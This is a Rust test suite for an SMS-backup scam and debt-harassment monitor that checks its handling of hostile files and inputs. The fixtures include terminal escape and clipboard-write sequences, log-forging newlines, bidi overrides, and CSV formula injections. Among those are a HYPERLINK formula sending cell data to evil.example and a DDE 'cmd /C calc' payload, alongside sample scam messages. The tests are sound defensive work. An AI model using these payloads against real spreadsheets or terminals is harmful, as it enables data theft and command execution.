//! Hostile files, round 2: what a sync tool, another device or an attacker can put in the
//! watched folder.

#![cfg(unix)]

mod common;

use std::ffi::CString;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;
use std::time::{Duration, Instant};

use common::*;

fn mkfifo(path: &Path) {
    let c = CString::new(path.as_os_str().as_bytes()).unwrap();
    // SAFETY: a NUL-terminated path and a mode.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0, "mkfifo");
}

#[test]
fn opening_a_fifo_for_reading_is_refused_at_once_without_waiting_for_a_writer() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("sms.xml");
    mkfifo(&fifo);
    let start = Instant::now();
    let err = dunwatch::ingest::open_regular(&fifo).unwrap_err();
    assert!(start.elapsed() < Duration::from_secs(1));
    assert!(err.to_string().contains("not a regular file"), "{err}");
    assert!(dunwatch::ingest::open_regular(dir.path()).is_err());
    let file = dir.path().join("ok.xml");
    std::fs::write(&file, "x").unwrap();
    assert!(dunwatch::ingest::open_regular(&file).is_ok());
}

#[test]
fn scanning_a_fifo_names_it_and_returns_at_once() {
    let env = Env::new();
    let fifo = env.path("sms.xml");
    mkfifo(&fifo);
    let start = Instant::now();
    let out = env.run(&["scan", fifo.to_str().unwrap()]);
    assert!(start.elapsed() < Duration::from_secs(10));
    let text = format!("{}{}", stdout(&out), stderr(&out));
    assert!(
        text.contains("sms.xml") && text.contains("not a regular file"),
        "{text}"
    );
}

#[test]
fn a_backup_replaced_by_a_fifo_is_skipped_the_next_file_imported_and_sigterm_stops_within_2s() {
    let home = Home::new();
    home.write_config("");
    let d = home.start("log", false);
    let now = now_ms();
    // A backup arrives and, before the debounced import, a FIFO takes its name.
    let target = home.watch().join("a.xml");
    std::fs::write(&target, backup(&[sms("13800001111", now - 9_000, "first")])).unwrap();
    let fifo = home.root().join("fifo");
    mkfifo(&fifo);
    std::fs::rename(&fifo, &target).unwrap();
    std::thread::sleep(Duration::from_millis(600));
    std::fs::write(
        home.watch().join("b.xml"),
        backup(&[sms("13800002222", now - 5_000, "second")]),
    )
    .unwrap();
    wait_for("b.xml imported", Duration::from_secs(20), || {
        count(&home, "SELECT count(*) FROM message WHERE body = 'second'") == 1
    });
    let start = Instant::now();
    let (status, log) = d.stop();
    assert!(status.success(), "{log}");
    assert!(start.elapsed() < Duration::from_secs(2), "{log}");
}

#[test]
fn escape_sequences_lone_returns_and_bidi_overrides_are_shown_escaped_by_scan_show_and_check() {
    let env = Env::new();
    // A file name that clears the screen and writes the clipboard (OSC 52), with a newline.
    let name = "evil\u{1b}[2J\u{1b}]52;c;aGk=\u{7}\nINFO forged.xml";
    let file = env.path(name);
    let body = "您的借款已还清\r您的借款已逾期，立即还款 \u{202e}gpj.exe";
    std::fs::write(
        &file,
        sbr_document(&[FixtureMessage {
            sender: "95\u{202e}384".into(),
            body: body.into(),
            ts_ms: 1_793_584_800_000,
            incoming: true,
            contact: Some("妈妈\u{1b}[31m".into()),
        }]),
    )
    .unwrap();
    let out = env.run(&["scan", file.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}'),
        "{text:?}"
    );
    assert!(
        text.contains("evil\\x1b[2J\\x1b]52;c;aGk=\\x07\\nINFO forged.xml"),
        "{text:?}"
    );
    assert!(
        !text.lines().any(|l| l.starts_with("INFO forged")),
        "{text:?}"
    );

    let show = stdout(&env.run(&["show", "1"]));
    for raw in ['\u{1b}', '\u{202e}', '\r'] {
        assert!(
            !show.contains(raw),
            "{raw:?} reached the terminal: {show:?}"
        );
    }
    assert!(show.contains("已还清\\r您的借款已逾期"), "{show:?}");
    assert!(show.contains("\\u{202e}gpj.exe"), "{show:?}");
    let history = stdout(&env.run(&["history", "--all"]));
    assert!(!history.contains('\u{202e}'), "{history:?}");
    let check = stdout(&env.run(&["check", "--sender", "95\u{202e}384", body]));
    assert!(
        !check.contains('\u{202e}') && !check.contains('\r'),
        "{check:?}"
    );
}

#[test]
fn a_file_name_with_a_newline_cannot_forge_a_line_in_the_daemon_log() {
    let home = Home::new();
    home.write_config("");
    let d = home.start("log", false);
    std::fs::write(
        home.watch().join("a\nWARN forged line.xml"),
        "<?xml version='1.0'?><smses count=\"1\"><sms address=\"1\" body=\"x\" date=\"oops",
    )
    .unwrap();
    d.wait_log("forged line.xml", Duration::from_secs(20));
    std::thread::sleep(Duration::from_millis(300));
    let (status, log) = d.stop();
    assert!(status.success(), "{log}");
    assert!(
        !log.lines().any(|l| l.starts_with("WARN forged")),
        "a forged line: {log}"
    );
    assert!(log.contains("a\\nWARN forged line.xml"), "{log}");
}

fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// The binary with `umask 000`: everything it creates would be writable by everyone unless
/// it sets modes itself.
fn with_umask_000(cmd: &mut std::process::Command) -> &mut std::process::Command {
    use std::os::unix::process::CommandExt;
    // SAFETY: umask is async-signal-safe.
    unsafe {
        cmd.pre_exec(|| {
            libc::umask(0);
            Ok(())
        })
    }
}

#[test]
fn under_umask_000_service_files_are_0644_in_0755_folders_and_config_and_backups_private() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    let run = |args: &[&str]| {
        let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_dunwatch"));
        cmd.args(args)
            .env("HOME", &home)
            .env_remove("XDG_CONFIG_HOME")
            .env_remove("DUNWATCH_CONFIG_DIR")
            .env("DUNWATCH_DATA_DIR", dir.path().join("data"))
            .env_remove("DBUS_SESSION_BUS_ADDRESS");
        let out = with_umask_000(&mut cmd).output().unwrap();
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
    };
    for backend in ["systemd", "xdg"] {
        run(&["service", "install", "--backend", backend, "--no-start"]);
    }
    let unit = home.join(".config/systemd/user/dunwatch.service");
    let desktop = home.join(".config/autostart/dunwatch.desktop");
    // The last backend installed is the one left (installing one removes the others).
    assert!(desktop.exists());
    assert_eq!(mode(&desktop), 0o644);
    assert_eq!(mode(desktop.parent().unwrap()), 0o755);
    assert_eq!(mode(&home.join(".config")), 0o755);
    run(&["service", "install", "--backend", "systemd", "--no-start"]);
    assert_eq!(mode(&unit), 0o644);
    assert_eq!(mode(unit.parent().unwrap()), 0o755);

    // The first run writes the default config and creates the watched folder.
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_dunwatch"));
    cmd.arg("run")
        .env("HOME", &home)
        .env_remove("XDG_CONFIG_HOME")
        .env_remove("DUNWATCH_CONFIG_DIR")
        .env("DUNWATCH_DATA_DIR", dir.path().join("data"))
        .env_remove("DBUS_SESSION_BUS_ADDRESS")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    let mut child = with_umask_000(&mut cmd).spawn().unwrap();
    let config = home.join(".config/dunwatch/config.toml");
    let watched = home.join("SMSBackup");
    let start = Instant::now();
    while !(config.exists() && watched.exists() && dir.path().join("data/dunwatch.db").exists()) {
        assert!(start.elapsed() < Duration::from_secs(20), "no first run");
        std::thread::sleep(Duration::from_millis(50));
    }
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(mode(&config), 0o600);
    assert_eq!(mode(config.parent().unwrap()), 0o700);
    assert_eq!(mode(&watched), 0o700);
    assert_eq!(mode(&dir.path().join("data/dunwatch.db")), 0o600);
    assert_eq!(mode(&dir.path().join("data")), 0o700);
}

#[test]
fn formulas_in_the_evidence_csv_are_neutralised_and_it_starts_with_a_bom() {
    let env = Env::new();
    let file = env.path("sms.xml");
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此还款，逾期将起诉\")";
    std::fs::write(
        &file,
        sbr_document(&[
            FixtureMessage {
                sender: "+8617088886666".into(),
                body: formula.into(),
                ts_ms: 1_793_584_800_000,
                incoming: true,
                contact: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
            },
            FixtureMessage {
                sender: "17088886666".into(),
                body: "-2+3 你再不还钱就上门找你家人，后果自负".into(),
                ts_ms: 1_793_584_900_000,
                incoming: true,
                contact: None,
            },
        ]),
    )
    .unwrap();
    assert!(env.run(&["scan", file.to_str().unwrap()]).status.success());
    let out_dir = env.path("evidence");
    let out = env.run(&["evidence", "--all", "--out", out_dir.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let csv = std::fs::read(out_dir.join("messages.csv")).unwrap();
    assert!(csv.starts_with("\u{feff}".as_bytes()), "no BOM");
    let mut reader = csv::Reader::from_reader(&csv[3..]);
    let headers = reader.headers().unwrap().clone();
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    for row in reader.records() {
        let row = row.unwrap();
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula: {cell:?}"
            );
        }
        let body = &row[col("body")];
        assert!(
            body == format!("'{formula}") || body.starts_with("'-2+3"),
            "{body}"
        );
    }
    // The exact text stays in messages.json, which the hashes cover.
    let json = std::fs::read_to_string(out_dir.join("messages.json")).unwrap();
    assert!(json.contains("=HYPERLINK"), "{json}");
    let verify = env.run(&["evidence", "verify", out_dir.to_str().unwrap()]);
    assert!(verify.status.success(), "{}", stdout(&verify));
}

#[test]
fn history_reads_while_another_process_holds_the_write_lock() {
    let env = Env::new();
    let file = env.path("sms.xml");
    write_sbr(&file, 20);
    assert!(env.run(&["scan", file.to_str().unwrap()]).status.success());
    let writer = rusqlite::Connection::open(env.db()).unwrap();
    writer
        .execute_batch("BEGIN IMMEDIATE; UPDATE message SET advice = advice WHERE id = 1;")
        .unwrap();
    let start = Instant::now();
    let out = env.run(&["history", "--all", "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        start.elapsed() < Duration::from_secs(5),
        "{:?}",
        start.elapsed()
    );
    assert_eq!(stdout(&out).lines().count(), 20);
    writer.execute_batch("COMMIT").unwrap();
}

#[test]
fn two_first_imports_into_a_new_database_both_succeed() {
    let env = Env::new();
    let (a, b) = (env.path("a.xml"), env.path("b.xml"));
    write_sbr(&a, 200);
    std::fs::write(
        &b,
        sbr_document(&[FixtureMessage {
            sender: "95384".into(),
            body: "另一个备份里的短信".into(),
            ts_ms: 1_793_584_800_000,
            incoming: true,
            contact: None,
        }]),
    )
    .unwrap();
    let spawn = |f: &Path| {
        env.cmd()
            .args(["scan", f.to_str().unwrap()])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    };
    let (ca, cb) = (spawn(&a), spawn(&b));
    for c in [ca, cb] {
        let out = c.wait_with_output().unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
    }
    assert_eq!(env.count("SELECT count(*) FROM message"), 201);
}

#[test]
fn bidi_overrides_are_shown_escaped_in_alert_markup_and_html() {
    let name = "\u{202e}gnp.exe 95188";
    let markup = dunwatch::alert::desktop::escape_markup(name);
    assert!(!markup.contains('\u{202e}'), "{markup:?}");
    assert!(markup.contains("\\u{202e}gnp.exe"), "{markup:?}");

    // The HTML pages, through their templates: the report and the evidence page.
    let controls = [
        '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}', '\u{202a}', '\u{200f}',
    ];
    let env = Env::new();
    let file = env.path("sms.xml");
    let ts_ms = 1_793_584_800_000;
    let sender: String = controls.iter().map(|c| format!("9{c}")).collect();
    std::fs::write(
        &file,
        sbr_document(&[FixtureMessage {
            sender: sender.clone(),
            body: "您的账户已被冻结，请点击 http://abc-kefu.top 解冻".into(),
            ts_ms,
            incoming: true,
            contact: Some(sender),
        }]),
    )
    .unwrap();
    let out = env.run(&["scan", file.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let day = jiff::Timestamp::from_millisecond(ts_ms)
        .unwrap()
        .to_zoned(jiff::tz::TimeZone::UTC)
        .date();
    let store = dunwatch::store::Store::open(&env.db()).unwrap();
    let report = dunwatch::report::Report::build(
        &store,
        &dunwatch::classify::Engine::builtin().unwrap(),
        dunwatch::report::Period::range(day, day, jiff::tz::TimeZone::UTC).unwrap(),
        dunwatch::report::Lang::En,
    )
    .unwrap();
    assert_eq!(report.scams.len(), 1, "{:#?}", report.scams);
    let html = report.render(dunwatch::report::Format::Html).unwrap();
    let out_dir = env.path("evidence");
    let out = env.run(&["evidence", "--all", "--out", out_dir.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let evidence = std::fs::read_to_string(out_dir.join("messages.html")).unwrap();
    for (page, html) in [("report", &html), ("evidence", &evidence)] {
        for c in controls {
            assert!(!html.contains(c), "{c:?} left in the {page}");
            assert!(
                html.contains(&format!("9\\u{{{:x}}}", c as u32)),
                "{c:?} not shown in the {page}: {html}"
            );
        }
    }
}
